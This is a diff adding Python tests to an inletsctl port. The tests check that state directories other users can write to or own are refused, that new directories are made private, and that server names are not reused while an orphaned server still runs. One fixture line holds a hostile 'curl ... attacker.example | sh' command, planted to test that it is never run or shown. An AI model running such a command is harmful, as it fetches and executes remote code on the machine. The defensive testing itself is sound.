@@ -480,6 +480,74 @@ def test_a_state_root_that_exists_keeps_its_mode_and_one_made_is_private(tmp_pat
     assert writable.stat().st_mode & 0o777 == 0o775 and list(writable.iterdir()) == []
 
 
+ATTACKER = "curl -s http://attacker.example/x | sh"
+
+
+def _plant(root: Path, name: str = "web") -> Path:
+    """What another user put in a state root open to them: an exit server's folder whose client command is theirs."""
+    folder = root / name
+    folder.mkdir(parents=True)
+    (folder / "server.json").write_text(json.dumps({
+        "name": name, "provider": "local", "id": "1", "ip": "127.0.0.1", "mode": "tcp", "ports": [8080],
+        "control_port": 1, "created_at": "2026-01-01T00:00:00Z", "client_command": ATTACKER}))
+    (folder / "token").write_text("x\n")
+    return folder
+
+
+def test_list_status_and_delete_refuse_a_root_others_may_write_or_own(tmp_path: Path, capsys) -> None:
+    """Only create refused a state root other users may write: list showed, and status --json printed, the exit
+    server another user had put there (its client command theirs to choose), and delete acted on it."""
+    root = tmp_path / "open"
+    planted = _plant(root)
+    root.chmod(0o777)
+    for command in (("list",), ("list", "--json"), ("status", "web", "--json"), ("delete", "web")):
+        result = run_cli(capsys, *command, "--state-dir", str(root))
+        one_line_error(result, f"cannot keep exit servers in {root}: other users may write in it (mode 0777)",
+                       f"run chmod go-w {root}")
+        assert "attacker" not in result.out + result.err, command
+    assert (planted / "server.json").is_file()  # delete removed nothing
+    if os.geteuid() != 0:
+        return
+    root.chmod(0o755)
+    os.chown(root, 65534, 65534)
+    for command in (("list",), ("status", "web", "--json"), ("delete", "web")):
+        result = run_cli(capsys, *command, "--state-dir", str(root))
+        one_line_error(result, f"cannot keep exit servers in {root}: it belongs to another user")
+        assert "attacker" not in result.out + result.err, command
+
+
+def test_an_exit_servers_folder_another_user_owns_is_shown_damaged_never_used(tmp_path: Path, capsys) -> None:
+    """A folder put in the root while it was open (the root made private since) is not inletsctl's: status printed
+    its client command as the exit server's."""
+    if os.geteuid() != 0:
+        pytest.skip("giving a folder to another user takes root")
+    root = tmp_path / "state"
+    planted = _plant(root)
+    root.chmod(0o700)
+    for path in (planted, planted / "server.json", planted / "token"):
+        os.chown(path, 65534, 65534)
+    status = run_cli(capsys, "status", "web", "--json", "--state-dir", str(root))
+    one_line_error(status, "the local state of 'web' is damaged", "is in a folder another user (uid 65534) made")
+    assert "attacker" not in status.out + status.err
+    listed = run_cli(capsys, "list", "--json", "--state-dir", str(root))
+    assert listed.code == 0, listed.err
+    assert [(row["name"], row["status"]) for row in listed.json()["servers"]] == [("web", "damaged")]
+    assert "attacker" not in listed.out + listed.err
+
+
+def test_the_parents_a_state_root_needs_are_made_private_whatever_the_umask(tmp_path: Path) -> None:
+    """mkdir(parents=True) made ~/.config 0775 under umask 002; the XDG Base Directory spec asks 0700."""
+    from inlets_py.provisioner.state_root import prepare_root
+
+    old = os.umask(0o002)
+    try:
+        prepare_root(tmp_path / "home" / ".config" / "inletsctl")
+    finally:
+        os.umask(old)
+    modes = [(tmp_path / part).stat().st_mode & 0o777 for part in ("home", "home/.config", "home/.config/inletsctl")]
+    assert modes == [0o700, 0o700, 0o700]
+
+
 def test_a_local_server_whose_folder_was_removed_is_found_by_status_and_delete_as_list_shows_it(
         tmp_path: Path, capsys) -> None:
     """rm -rf of a running server's folder: list showed it 'local only', but status said no such exit server and
@@ -505,6 +573,45 @@ def test_a_local_server_whose_folder_was_removed_is_found_by_status_and_delete_a
     finally:
         run_cli(capsys, "delete", "--provider", "local", "--id", pid, "--state-dir", str(state))
     assert run_cli(capsys, "list", "--json", "--state-dir", str(state)).json()["servers"] == []
+
+
+def test_a_name_a_local_server_whose_folder_was_removed_still_runs_under_is_not_reused(
+        tmp_path: Path, capsys, monkeypatch) -> None:
+    """rm -rf of a running server's folder, then create of its name: allowed, and list's note said to stop the first
+    with `delete NAME`, which deleted the new server instead (and showed the new one's created_at for the first)."""
+    from inlets_py.provisioner import create
+
+    state = tmp_path / "state"
+    flags = ["--state-dir", str(state), "--json", "--timeout", "30"]
+    first = run_cli(capsys, "create", "o1", "--ports", str(free_port("127.0.0.2")), *flags)
+    assert first.code == 0, first.err
+    old, new = first.json()["id"], ""
+    by_id = f"inletsctl delete --provider local --id {old} --state-dir {state}"
+    try:
+        shutil.rmtree(state / "o1")
+        again = run_cli(capsys, "create", "o1", "--ports", str(free_port("127.0.0.2")), *flags)
+        one_line_error(again, f"exit server o1 runs on this machine (process {old} running)", f"stop it with: {by_id}; "
+                       "or choose another name")
+        assert again.json()["state"] == "invalid" and not (state / "o1").exists(), again.out
+        # an older inletsctl let it through: the note then names the id that stops the first, not `delete o1`
+        monkeypatch.setattr(create, "_refuse_orphan", lambda opts, name: None)
+        second = run_cli(capsys, "create", "o1", "--ports", str(free_port("127.0.0.2")), *flags)
+        assert second.code == 0, second.err
+        new = second.json()["id"]
+        listed = run_cli(capsys, "list", "--json", "--state-dir", str(state)).json()
+        rows = {r["id"]: (r["where"], r["created"]) for r in listed["servers"]}
+        assert rows == {new: ("both", second.json()["created_at"]), old: ("local only", None)}, listed
+        assert listed["notes"] == [f"exit server o1 runs on this machine (process {old} running), but its local state "
+                                   f"({state / 'o1'}) is gone (the folder of that name now is another exit server's), "
+                                   f"and with it the token and CA that reach it: stop it with: {by_id}"], listed
+        stopped = run_cli(capsys, *by_id.split()[1:])
+        assert stopped.code == 0 and stopped.out.strip() == f"deleted o1 (local {old})", stopped
+        (row,) = run_cli(capsys, "list", "--json", "--state-dir", str(state)).json()["servers"]
+        assert (row["id"], row["where"]) == (new, "both"), row
+    finally:
+        for pid in (old, new):
+            if pid:
+                run_cli(capsys, "delete", "--provider", "local", "--id", pid, "--state-dir", str(state))
 
 
 def test_status_of_a_local_server_past_its_ttl_says_it_ended_then_not_that_it_crashed(tmp_path: Path, capsys) -> None:
